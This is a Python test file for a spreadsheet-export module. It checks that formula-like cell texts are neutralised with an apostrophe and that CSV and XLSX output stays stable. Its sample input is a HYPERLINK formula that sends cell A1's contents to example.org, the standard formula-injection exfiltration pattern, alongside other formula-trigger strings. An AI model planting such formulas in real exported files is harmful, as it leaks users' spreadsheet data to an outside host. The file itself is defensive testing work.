"""What people wrote stays text in every file that a spreadsheet program opens, and files are the same whenever they are written."""

from datetime import date
from io import BytesIO

import openpyxl
import pandas as pd
import pytest
from openpyxl import Workbook

from analysis.spreadsheets import csv_bytes, csv_cell, csv_of_cells, harmless, harmless_texts, xlsx_bytes

DANGEROUS = '=HYPERLINK("http://example.org?"&A1,"x")'


@pytest.mark.parametrize(
    "text", [DANGEROUS, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "+8613800000000 转2", "-1_0", "\uff1d1+1", "\uff20SUM"]
)
def test_harmless__of_a_text_that_a_spreadsheet_would_run__begins_with_an_apostrophe(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("value", ["张三", "", "-5", "+3.5", "-1e3", "a=b", None, -5, 2.5])
def test_harmless__of_anything_else__changes_nothing(value: object) -> None:
    assert harmless(value) is value


def test_csv__with_a_formula_and_nothing__holds_neither_formula_nor_none() -> None:
    assert csv_bytes(["甲", "=乙"], [(DANGEROUS, None), (1, "x")]).decode("utf-8-sig").splitlines() == [
        "甲,'=乙",
        '"\'=HYPERLINK(""http://example.org?""&A1,""x"")",',
        "1,x",
    ]


def test_csv_of_cells__with_signs_of_every_kind__is_the_same_file() -> None:
    values = [DANGEROUS, None, "", "a,b", 'say "so"', "two\r\nlines", "plain", 3, -2.5, -0.0, "-5", date(2018, 4, 20), "甲，乙", "\n"]
    for rows in ([(value,) for value in values], list(zip(values, values[::-1], strict=True))):
        cells = [[csv_cell(value) for value in column] for column in zip(*rows, strict=True)]
        heading = ["甲,乙", "=b"][: len(cells)]
        assert csv_of_cells(heading, cells) == csv_bytes([harmless(each) for each in heading], rows)


def test_table__with_texts_of_each_type__keeps_numbers_and_mends_texts() -> None:
    frame = pd.DataFrame({"n": [-1, 2], "text": [DANGEROUS, "x"], "kind": pd.Categorical(["@a", None])})
    mended = harmless_texts(frame)
    assert mended["n"].tolist() == [-1, 2]
    assert (mended["text"].tolist(), mended["kind"][0]) == ([f"'{DANGEROUS}", "x"], "'@a")


def test_workbook__with_a_formula__holds_it_as_text_and_is_the_same_again() -> None:
    book = Workbook()
    book.worksheets[0].append([DANGEROUS, 1])
    first = xlsx_bytes(book)
    cell = openpyxl.load_workbook(BytesIO(first)).worksheets[0].cell(1, 1)
    assert (cell.data_type, cell.value) == ("s", DANGEROUS)
    assert xlsx_bytes(book) == first
